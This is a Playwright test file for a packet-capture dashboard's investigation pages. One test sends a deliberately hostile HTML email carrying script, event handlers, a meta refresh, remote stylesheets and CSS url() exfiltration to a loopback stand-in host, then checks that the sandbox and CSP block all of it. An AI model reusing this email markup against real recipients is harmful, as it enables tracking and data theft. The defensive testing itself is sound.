"""The dashboard's investigation pages in a real headless Chromium (Debian's chromium driven
by Playwright, as in test_dashboard_chromium.py): the timeline (uPlot) and connections
graph (cytoscape.js) of a case and of a query, "query this window", the session view of a
flow, the email view of a hostile message carried over real SMTP, search, capture and
retention, holds, the custody log. Every page must run without a console error (the CSP
refuses nothing but the hostile email's content). Screenshots go to
``artifacts/screenshots/``."""

from __future__ import annotations

import hashlib
import http.server
import json
import shutil
import smtplib
import struct
import threading
import urllib.error
import urllib.request
from email.message import EmailMessage
from pathlib import Path

import pytest
from apiutil import GET_RULE, PCAP_TYPE, ServerThread, Tokens
from chromiumutil import CHROMIUM, UI_TIMEOUT_MS, launch, shot
from conftest import CASES, corpus_file
from e2e.capture import LoopbackCapture, tcpdump_available
from e2e.servers import SmtpInbox, smtp_server
from pcaputil import read_records, tcpdump
from pcapwire.api import ApiConfig
from pcapwire.api.emailview import HTML_CSP

pytestmark = pytest.mark.skipif(
    not Path(CHROMIUM).exists() or shutil.which("suricata") is None
    or tcpdump_available() is not None,
    reason="needs Debian's chromium, suricata and tcpdump on lo (scripts/setup.sh, root)")

TLS_CASE, HTTP_CASE = "arkime-tls13-ja3-ja4", "zeek-http-get"
TLS_HOST = "192.168.65.3"


# ---- fixtures ------------------------------------------------------------------------
class RemoteHost:
    """The "remote" server a hostile email points at (another origin on loopback): every
    request it gets is kept, so the test can say none arrived."""

    def __init__(self) -> None:
        self.hits: list[str] = []
        hits = self.hits

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:  # noqa: N802 (http.server's name)
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> RemoteHost:
        self.thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.shutdown()
        self.server.server_close()


ATTACHMENT = b"%PDF-1.4\n% hostile test attachment\n" + bytes(range(256)) * 8


def hostile_message(remote: str) -> EmailMessage:
    """script, event handlers, remote images, CSS url() exfiltration, @import, a remote
    stylesheet, a meta refresh and a javascript: link -- none may run or load."""
    msg = EmailMessage()
    msg["From"] = "Mallory <mallory@evil.example>"
    msg["To"] = "Victim <victim@example.net>"
    msg["Subject"] = "Invoice 2291 — please review"
    msg["Message-ID"] = "<hostile-1@evil.example>"
    msg.set_content("Plain text part: nothing to see here.\n")
    msg.add_alternative(f"""<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url={remote}/refresh">
<link rel="stylesheet" href="{remote}/sheet.css">
<style>@import url("{remote}/import.css");
body {{ background: url("{remote}/css-exfil?secret=1"); }}
input[value^="a"] {{ background-image: url({remote}/attr-exfil); }}</style>
<script>window.__pwned = "script"; new Image().src = "{remote}/script";</script>
</head><body onload="window.__pwned = 'onload'">
<h1 id="hello">Hello victim</h1>
<img src="{remote}/pixel.png" onerror="window.__pwned = 'onerror'">
<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" alt="inline">
<a id="jslink" href="javascript:window.__pwned='link'">open invoice</a>
<a id="remotelink" href="{remote}/clicked">remote link</a>
</body></html>""", subtype="html")
    msg.add_attachment(ATTACHMENT, maintype="application", subtype="pdf",
                       filename="invoice-2291.pdf")
    return msg


@pytest.fixture(scope="module")
def remote():
    with RemoteHost() as host:
        yield host


@pytest.fixture(scope="module")
def smtp_capture(tmp_path_factory, remote):
    """(pcap path, message bytes as the SMTP server received them): the hostile email sent
    with smtplib to aiosmtpd on loopback, captured by tcpdump."""
    tmp = tmp_path_factory.mktemp("smtp")
    inbox = SmtpInbox()
    with smtp_server(inbox) as port, LoopbackCapture(tmp / "smtp.pcap",
                                                     f"tcp port {port}") as cap:
        with smtplib.SMTP("127.0.0.1", port, timeout=30) as client:
            client.send_message(hostile_message(f"http://127.0.0.1:{remote.port}"),
                                from_addr="mallory@evil.example",
                                to_addrs=["victim@example.net"])
        path = cap.stop()  # the capture, written to tmp / "smtp.pcap"
    ((_from, _to, received),) = inbox.messages
    return path, received


def _request(srv, tokens, method, path, body=None, data=None, ctype="application/json"):
    payload = data if data is not None else (json.dumps(body).encode() if body is not None
                                             else None)
    req = urllib.request.Request(f"{srv.url}{path}", data=payload, method=method, headers={
        "Content-Type": ctype, **tokens.headers("acme", "analyst")})
    with urllib.request.urlopen(req, timeout=120) as resp:
        return resp.status, dict(resp.headers), resp.read()


def _api(srv, tokens, method, path, body=None):
    return json.loads(_request(srv, tokens, method, path, body)[2])


def _query_done(srv, tokens, body):
    q = _api(srv, tokens, "POST", "/api/v1/queries", body)
    stream = f"/api/v1/queries/{q['id']}/verdicts/stream"
    assert b"event: end" in _request(srv, tokens, "GET", stream)[2]  # ends with the query
    q = _api(srv, tokens, "GET", f"/api/v1/queries/{q['id']}")
    assert q["status"] == "done", q
    return q


@pytest.fixture(scope="module")
def served(tmp_path_factory, smtp_capture):
    data = tmp_path_factory.mktemp("pages")
    tokens = Tokens(data)
    flows = tmp_path_factory.mktemp("workflows")
    (flows / "t.rules").write_text(GET_RULE)
    (flows / "ids.yaml").write_text(f"""\
name: ids
description: Suricata with one test rule; EVE metadata kept with the case
steps:
  - id: ids
    uses: suricata
    input: pcap
    with:
      rules: ["{flows / 't.rules'}"]
      args: ["-k", "none"]
      warm_spares: 0
      ja3: true
""")
    with ServerThread(ApiConfig(data_dir=data, workflow_dirs=[flows])) as srv:
        for pcap in (corpus_file(TLS_CASE), corpus_file(HTTP_CASE), smtp_capture[0]):
            status, _, _ = _request(srv, tokens, "POST", "/api/v1/ingest",
                                    data=pcap.read_bytes(), ctype=PCAP_TYPE)
            assert status == 200
        queries = {
            "tls": _query_done(srv, tokens, {"hosts": [TLS_HOST], "case": "tls-case",
                                             "event": "curl", "workflows": ["ids"]}),
            "http": _query_done(srv, tokens, {"bpf": "tcp port 80", "case": "http-case",
                                              "event": "wget", "workflows": ["ids"]}),
            "smtp": _query_done(srv, tokens, {"hosts": ["127.0.0.1"], "case": "mail-case",
                                              "event": "hostile mail", "bpf": "tcp"})}
        yield srv, tokens, queries


@pytest.fixture(scope="module")
def browser():
    yield from launch()


class Session:
    """A logged-in page that records console errors and every request it makes."""

    def __init__(self, browser, srv, tokens, **kw) -> None:
        self.ctx = browser.new_context(viewport={"width": 1280, "height": 900}, **kw)
        self.page = self.ctx.new_page()
        self.page.set_default_timeout(UI_TIMEOUT_MS)
        self.errors: list[str] = []
        self.requests: list[str] = []
        self.page.on("console", lambda m: self.errors.append(m.text) if m.type == "error"
                     else None)
        self.page.on("pageerror", lambda e: self.errors.append(f"pageerror: {e}"))
        self.failed: list[tuple[str, str]] = []
        self.finished: list[str] = []
        self.page.on("request", lambda r: self.requests.append(r.url))
        self.page.on("requestfailed", lambda r: self.failed.append((r.url, r.failure)))
        self.page.on("requestfinished", lambda r: self.finished.append(r.url))
        self.page.on("response", lambda r: self.errors.append(f"{r.status} {r.url}")
                     if r.status >= 400 else None)
        self.page.goto(f"{srv.url}/ui/login")
        self.page.fill("#token", tokens["acme", "analyst"])
        self.page.click("#login-submit")
        self.page.wait_for_url(f"{srv.url}/ui/")

    def close(self) -> None:
        self.ctx.close()


@pytest.fixture
def ui(served, browser):
    srv, tokens, _ = served
    s = Session(browser, srv, tokens, accept_downloads=True)
    yield s
    s.close()


def _records(pcap: bytes) -> list[tuple[int, int]]:
    """(timestamp in µs, wire length) of each record of a classic µs pcap."""
    _hdr, recs = read_records(pcap)
    heads = [struct.unpack_from("<IIII", r) for r in recs]
    return [(sec * 1_000_000 + usec, orig) for sec, usec, _caplen, orig in heads]


# ---- tests -----------------------------------------------------------------------------
def test_case_timeline_graph_window_and_tls_session(served, ui):
    from playwright.sync_api import expect

    srv, tokens, queries = served
    page = ui.page
    expected = tcpdump(corpus_file(TLS_CASE), f"host {TLS_HOST}")
    recs = _records(expected)
    flows = _api(srv, tokens, "GET", "/api/v1/cases/tls-case/flows")["flows"]
    page.goto(f"{srv.url}/ui/cases/tls-case")
    span = (recs[-1][0] - recs[0][0]) / 1e6 / 120
    expect(page.locator("#timeline-note")).to_have_text(
        f"{len(recs)} packets, {sum(n for _, n in recs)} bytes in 120 bins of {span:.6f} s; "
        "0 verdict(s) as dots; drag to narrow the window")
    expect(page.locator("#timeline .u-over")).to_have_count(1)  # uPlot drew it
    expect(page.locator("#graph-note")).to_have_text(
        f"3 hosts, {len(flows)} flows; click a flow for its session")
    assert page.evaluate("CHARTS.graph.nodes().map(n => n.data('label')).sort()") == sorted(
        {TLS_HOST, "192.168.65.1", "104.16.125.34"})
    assert page.evaluate("CHARTS.graph.edges().length") == len(flows)
    shot(page, "10-case-timeline-graph")

    # drag across the middle half of the plot: the view narrows, the window is offered
    box = page.locator("#timeline .u-over").bounding_box()
    y = box["y"] + box["height"] / 2
    page.mouse.move(box["x"] + box["width"] * 0.25, y)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] * 0.75, y, steps=8)
    page.mouse.up()
    expect(page.locator("#timeline .timeline-window")).to_be_visible()
    start = page.locator("#timeline .window-start").inner_text()
    end = page.locator("#timeline .window-end").inner_text()
    lo, hi = round(float(start) * 1e6), round(float(end) * 1e6)
    in_window = [t for t, _ in _records(corpus_file(TLS_CASE).read_bytes()) if lo <= t < hi]
    assert 0 < len(in_window) < len(recs)
    scale = page.evaluate("[CHARTS.timeline.scales.x.min, CHARTS.timeline.scales.x.max]")
    assert scale[1] - scale[0] < (recs[-1][0] - recs[0][0]) / 1e6  # narrowed
    shot(page, "11-case-window")
    page.click("#timeline .window-query")
    page.wait_for_url("**/ui/queries/*")
    expect(page.locator("#q-status")).to_have_text("done")
    expect(page.locator("#q-packets")).to_have_text(str(len(in_window)))
    expect(page.locator("#q-case")).to_have_text("tls-case")

    # the TLS flow's edge opens its session view
    page.goto(f"{srv.url}/ui/cases/tls-case")
    expect(page.locator("#graph-note")).to_contain_text("3 hosts")
    tls = next(f for f in flows if f["dest_port"] == 443)
    point = page.evaluate(f"CHARTS.graph.getElementById('f:{tls['flow_id']}').renderedMidpoint()")
    graph = page.locator("#connections .graph").bounding_box()
    page.mouse.click(graph["x"] + point["x"], graph["y"] + point["y"])
    page.wait_for_url(f"**/ui/cases/tls-case/sessions/{tls['flow_id']}")
    expect(page.locator("#s-flow")).to_have_text(
        f"tcp {TLS_HOST}:46638 → 104.16.125.34:443")
    want = CASES[TLS_CASE]["expect"]["tls"][0]
    row = page.locator("#s-tls tbody tr")
    expect(row).to_have_count(1)
    expect(row.locator("td").nth(0)).to_have_text(want["server_name"])
    expect(row.locator("td").nth(1)).to_have_text("TLS 1.3")
    expect(row.locator("td").nth(4)).to_have_text(want["ja3"])
    expect(row.locator("td").nth(5)).to_have_text(want["ja3s"])
    expect(page.locator("#s-dns tbody tr")).to_have_count(0)
    expect(page.locator("#s-http tbody tr")).to_have_count(0)
    shot(page, "12-session-tls")

    dns = next(f for f in flows if f["dest_port"] == 53)
    page.goto(f"{srv.url}/ui/cases/tls-case/sessions/{dns['flow_id']}")
    expect(page.locator("#s-dns tbody tr").first).to_contain_text(want["server_name"])
    expect(page.locator("#s-tls tbody tr")).to_have_count(0)
    shot(page, "13-session-dns")
    assert ui.errors == []


def test_live_query_pictures_and_http_session(served, ui):
    from playwright.sync_api import expect

    srv, tokens, queries = served
    page = ui.page
    expected = tcpdump(corpus_file(HTTP_CASE), "tcp port 80")
    recs = _records(expected)
    q = queries["http"]
    page.goto(f"{srv.url}/ui/queries/{q['id']}")
    expect(page.locator("#q-status")).to_have_text("done")
    span = (recs[-1][0] - recs[0][0]) / 1e6 / 120
    expect(page.locator("#timeline-note")).to_have_text(
        f"{len(recs)} packets, {sum(n for _, n in recs)} bytes in 120 bins of {span:.6f} s; "
        "1 verdict(s) as dots; drag to narrow the window")
    expect(page.locator("#graph-note")).to_have_text("2 hosts, 1 flows; click a flow for "
                                                     "its session")
    shot(page, "14-live-pictures")
    page.goto(f"{srv.url}/ui/cases/http-case")
    page.locator("#case-flows a.session").click()
    page.wait_for_url("**/ui/cases/http-case/sessions/*")
    http_row = page.locator("#s-http tbody tr")
    expect(http_row).to_have_count(1)
    expect(http_row.locator("td").nth(0)).to_have_text(
        "GET /download/CHANGES.bro-aux.txt HTTP/1.1")
    expect(http_row.locator("td").nth(1)).to_have_text("bro.org")
    expect(http_row.locator("td").nth(2)).to_have_text("HTTP/1.1 200 OK")
    expect(http_row.locator("td").nth(4)).to_have_text("4705")
    sha = CASES[HTTP_CASE]["expect"]["files"][0]["sha256"]
    expect(page.locator("#s-files tbody tr td.hash").first).to_have_text(sha)
    expect(page.locator("#s-eve-http tbody tr")).to_have_count(1)
    expect(page.locator("#s-eve-http tbody tr td").nth(2)).to_have_text(
        "/download/CHANGES.bro-aux.txt")
    expect(page.locator("#s-verdicts tbody tr")).to_have_count(1)
    expect(page.locator("#s-verdicts tbody tr td").nth(3)).to_have_text("pcapwire GET")
    expect(page.locator("#s-verdicts-count")).to_have_text("1")
    shot(page, "15-session-http")
    assert ui.errors == []


def test_hostile_email_runs_nothing_and_loads_nothing(served, ui, remote, smtp_capture,
                                                      tmp_path):
    from playwright.sync_api import expect

    srv, tokens, queries = served
    page = ui.page
    qid = queries["smtp"]["id"]
    (mail,) = _api(srv, tokens, "GET", f"/api/v1/queries/{qid}/emails")["emails"]
    page.goto(f"{srv.url}/ui/cases/mail-case")
    page.locator("#case-emails a.email-view").click()
    page.wait_for_url(f"**/ui/queries/{qid}/emails/{mail['id']}")
    expect(page.locator("#m-subject")).to_have_text("Invoice 2291 — please review")
    expect(page.locator("#m-from")).to_have_text("Mallory <mallory@evil.example>")
    expect(page.locator("#m-to")).to_have_text("Victim <victim@example.net>")
    expect(page.locator("#m-rcpt-to")).to_have_text("victim@example.net")
    expect(page.locator("#m-text")).to_have_text("Plain text part: nothing to see here.\r\n")
    att = page.locator("#m-attachments tbody tr")
    expect(att).to_have_count(1)
    expect(att.locator("td").nth(0)).to_have_text("invoice-2291.pdf")
    expect(att.locator("td").nth(3)).to_have_text(hashlib.sha256(ATTACHMENT).hexdigest())
    expect(page.locator("#m-headers tbody tr td:text-is('Subject') + td")).to_have_text(
        "Invoice 2291 — please review")
    frame_el = page.locator("#m-html iframe")
    expect(frame_el).to_have_attribute("sandbox", "")
    frame = frame_el.element_handle().content_frame()
    expect(frame.locator("#hello")).to_have_text("Hello victim")  # the HTML part rendered
    frame.locator("#jslink").click()  # a javascript: link does nothing in the sandbox
    expect(frame.locator("#hello")).to_have_text("Hello victim")
    assert frame.evaluate("window.__pwned === undefined")  # no script, handler or link ran
    shot(page, "16-email-hostile")
    # a click on a remote link: the dashboard's frame-src 'self' refuses the navigation
    frame.locator("#remotelink").click()
    expect(page.frame_locator("#m-html iframe").locator("body")).to_contain_text(
        "This content is blocked")

    # Nothing reached the remote host. Chromium reports the requests the frame's CSP
    # refused (the stylesheets, the images, the CSS url()s) as requests that failed
    # ("csp"): every one to the remote host failed so, none finished; the refused
    # navigation of the remote link never became a request.
    remote_origin = f"http://127.0.0.1:{remote.port}"
    attempted = sorted({u for u in ui.requests if u.startswith(remote_origin)})
    assert attempted == sorted(f"{remote_origin}{p}" for p in (
        "/sheet.css", "/import.css", "/pixel.png", "/css-exfil?secret=1"))
    assert sorted(ui.failed) == [(u, "csp") for u in attempted]
    assert [u for u in ui.finished if u.startswith(remote_origin)] == []
    assert remote.hits == []
    # the console shows only the refusals of the frame's CSP and sandbox
    refusals = ("Refused to execute the redirect", "Blocked script execution", "Loading the ",
                "Running the JavaScript URL", "Framing 'http://127.0.0.1:")
    odd = [e for e in ui.errors if not e.startswith(refusals)]
    assert ui.errors and odd == [], "\n".join(odd)

    status, headers, body = _request(srv, tokens, "GET",
                                     f"/api/v1/queries/{qid}/emails/{mail['id']}/html")
    assert headers["Content-Security-Policy"] == HTML_CSP == (
        "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'; "
        "form-action 'none'; base-uri 'none'; frame-ancestors 'self'")
    assert headers["Content-Type"] == "text/html; charset=utf-8"
    assert b"<script>" in body  # served as written: the CSP, not a rewrite, disarms it

    with page.expect_download() as dl:
        page.click("#m-eml")
    saved = tmp_path / "mail.eml"
    dl.value.save_as(saved)
    assert saved.read_bytes() == smtp_capture[1]  # byte for byte what the server received
    assert hashlib.sha256(saved.read_bytes()).hexdigest() == mail["sha256"]
    # the attachment's link, fetched with the page's session (Chromium asks before a
    # page's second download)
    href = att.locator("a").get_attribute("href")
    got = page.request.get(f"{srv.url}{href}")
    assert got.status == 200 and got.body() == ATTACHMENT
    assert got.headers["content-disposition"].startswith('attachment; filename="invoice-2291')


def test_capture_holds_and_custody_pages(served, ui):
    from playwright.sync_api import expect

    srv, tokens, queries = served
    page = ui.page
    hold = _api(srv, tokens, "POST", "/api/v1/holds", {
        "case": "http-case", "reason": "litigation 7", "bpf": "tcp port 80"})
    page.goto(f"{srv.url}/ui/holds")
    row = page.locator("#holds tbody tr")
    expect(row).to_have_count(1)
    expect(row.locator("td").nth(0)).to_have_text(str(hold["id"]))
    expect(row.locator("td").nth(1)).to_have_text("http-case")
    expect(row.locator("td").nth(3)).to_have_text("litigation 7")
    expected = read_records(tcpdump(corpus_file(HTTP_CASE), "tcp port 80"))[1]
    listed = _api(srv, tokens, "GET", f"/api/v1/holds/{hold['id']}")
    expect(row.locator("td").nth(2)).to_have_text(listed["state"])
    expect(row.locator("td").nth(5)).to_have_text(str(len(listed["parts"])))
    expect(row.locator("td").nth(6)).to_have_text(str(listed["packets"]))
    assert listed["packets"] == len(expected)
    shot(page, "17-holds")

    page.goto(f"{srv.url}/ui/capture")
    expect(page.locator("#c-recording")).to_have_text("not recording")
    expect(page.locator("#c-state")).to_have_text("no recorder")
    retention = _api(srv, tokens, "GET", "/api/v1/retention")
    expect(page.locator("#r-alarm")).to_have_text("no alarm" if not retention["alarm"]
                                                  else f"ALARM: {retention['alarm_reason']}")
    expect(page.locator("#r-policy tbody tr")).to_have_count(len(retention["policy"]))
    shot(page, "18-capture")

    log = _api(srv, tokens, "GET", "/api/v1/cases/http-case/custody?limit=1000")
    page.goto(f"{srv.url}/ui/cases/http-case")
    page.click("#custody-link")
    page.wait_for_url("**/ui/cases/http-case/custody")
    expect(page.locator("#k-entries tbody tr")).to_have_count(log["total"])
    expect(page.locator("#k-total")).to_have_text(str(log["total"]))
    expect(page.locator("#k-head")).to_have_text(log["head"])
    actions = page.locator("#k-entries tbody tr td:nth-child(3)").all_inner_texts()
    assert actions == [e["action"] for e in log["entries"]] and "hold" in " ".join(actions)
    page.click("#k-verify")
    expect(page.locator("#k-verified")).to_have_class("verified-true")
    expect(page.locator("#k-verified")).to_contain_text(f"verified: {log['total']} entries")
    expect(page.locator("#k-problems tbody tr")).to_have_count(0)
    shot(page, "19-custody")
    assert ui.errors == []


def test_search_page_positioned_error_and_pivots(served, ui, smtp_capture):
    from pcapwire.search.indexer import rebuild
    from playwright.sync_api import expect

    srv, tokens, queries = served
    page = ui.page
    _api(srv, tokens, "GET", f"/api/v1/queries/{queries['smtp']['id']}/emails")  # carved
    rebuild(srv.config.data_dir / "tenants" / "acme")  # what a run or a carve keeps current
    page.goto(f"{srv.url}/ui/search")
    page.fill("#q", "email.subject:(invoice")
    page.click("#search-submit")
    error = _search_error(srv, tokens, "email.subject:(invoice")
    expect(page.locator("#search-error")).to_have_text(error["message"].split("\n")[0])
    column = error["details"]["column"]
    expect(page.locator("#search-caret")).to_have_text(
        f"email.subject:(invoice\n{' ' * (column - 1)}^")
    shot(page, "20-search-error")

    page.fill("#q", 'email.subject:"Invoice 2291"')
    page.click("#search-submit")
    expect(page.locator("#search-error")).to_have_text("")
    found = _api(srv, tokens, "GET", "/api/v1/search?q=" + urllib.request.quote(
        'email.subject:"Invoice 2291"'))
    hits = page.locator("#hits tbody tr")
    expect(hits).to_have_count(len(found["hits"]))
    assert found["total"] >= 1
    expect(page.locator("#hits-total")).to_have_text(str(found["total"]))
    expect(hits.first.locator("td.fields")).to_contain_text("Invoice 2291 — please review")
    shot(page, "21-search-hits")
    hits.first.locator("button.packets").click()  # its PCAP: a query on its flow and time
    page.wait_for_url("**/ui/queries/*")
    expect(page.locator("#q-status")).to_have_text("done")
    smtp = read_records(tcpdump(smtp_capture[0], "tcp"))[1]
    expect(page.locator("#q-packets")).to_have_text(str(len(smtp)))
    assert ui.errors == [f"400 {srv.url}/api/v1/search?q=email.subject%3A(invoice",
                         "Failed to load resource: the server responded with a status of "
                         "400 (Bad Request)"]


def _search_error(srv, tokens, q):
    try:
        _request(srv, tokens, "GET", "/api/v1/search?q=" + urllib.request.quote(q))
    except urllib.error.HTTPError as exc:
        assert exc.code == 400
        return json.loads(exc.read())
    raise AssertionError(f"{q!r} parsed")
